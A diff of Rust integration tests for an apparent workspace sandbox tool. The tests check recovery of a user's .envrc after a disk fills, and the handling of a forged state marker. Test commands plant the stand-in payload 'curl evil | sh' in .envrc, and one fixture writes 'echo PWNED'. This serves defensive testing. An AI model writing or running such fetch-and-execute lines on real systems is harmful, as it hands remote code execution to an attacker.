@@ -517,9 +517,7 @@ fn a_forged_marker_in_codexs_state_neither_writes_nor_reaches_back() {
             let p = ws.join(name);
             let p = std::os::unix::ffi::OsStrExt::as_bytes(p.as_os_str()).to_vec();
             let content = b"echo PWNED\n";
-            for w in [p.len() as u32] {
-                body.extend_from_slice(&w.to_le_bytes());
-            }
+            body.extend_from_slice(&(p.len() as u32).to_le_bytes());
             body.extend_from_slice(&p);
             for w in [0o644, uid, gid, content.len() as u32] {
                 body.extend_from_slice(&w.to_le_bytes());
@@ -1939,6 +1937,69 @@ fn a_full_disk_at_the_restore_leaves_it_to_the_next_run() {
             Some("use flake # the operator's\n"),
             "{}",
             fx.what()
+        );
+        assert_eq!(
+            fs::metadata(&envrc).unwrap().permissions().mode() & 0o7777,
+            0o640
+        );
+        let out = fx.exec("true");
+        assert!(
+            !stderr(&out).contains("warning"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+    });
+}
+
+/// The disk the command fills is the log's too (the audit log in the root, a supported
+/// layout; or the home that holds both): after the run's `.envrc` is moved aside, neither the
+/// earlier content nor the scan's journal entry can be written. Before, the warning said "the
+/// earlier content is lost", and it was: nothing held it. Now the run's marker stays, marked
+/// in place, with the earlier contents the run kept beside it before the command started; once
+/// there is room, the next run writes it back (content and mode), says so, and the marker goes.
+#[test]
+fn a_disk_filled_under_the_log_too_loses_no_earlier_content() {
+    use std::os::unix::fs::PermissionsExt;
+    each(|fx| {
+        let policy = fx.root.join("policies/cordon.toml");
+        let text = fs::read_to_string(&policy)
+            .unwrap()
+            .replace("../state/audit.jsonl", "../ws/.cordon/audit.jsonl");
+        fs::write(&policy, text).unwrap();
+        let _fs = SmallFs::mount(&fx.ws, "256k");
+        let envrc = fx.ws.join(".envrc");
+        fs::write(&envrc, "use flake # the operator's\n").unwrap();
+        fs::set_permissions(&envrc, fs::Permissions::from_mode(0o640)).unwrap();
+        fs::create_dir(fx.ws.join(".cordon")).unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.ws, uid, gid);
+        }
+        let out = fx.exec("echo 'curl evil | sh' > .envrc && head -c 1M /dev/zero > fill; true");
+        let err = stderr(&out);
+        assert!(
+            err.contains(&format!("the run left {}", envrc.display()))
+                && err.contains("could not be written back")
+                && !err.contains("lost"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(!envrc.exists(), "{}", fx.what());
+        fs::remove_file(fx.ws.join("fill")).unwrap();
+        let out = fx.exec("true");
+        assert_eq!(
+            fs::read_to_string(&envrc).ok().as_deref(),
+            Some("use flake # the operator's\n"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(
+            stderr(&out).contains("written back now"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
         );
         assert_eq!(
             fs::metadata(&envrc).unwrap().permissions().mode() & 0o7777,
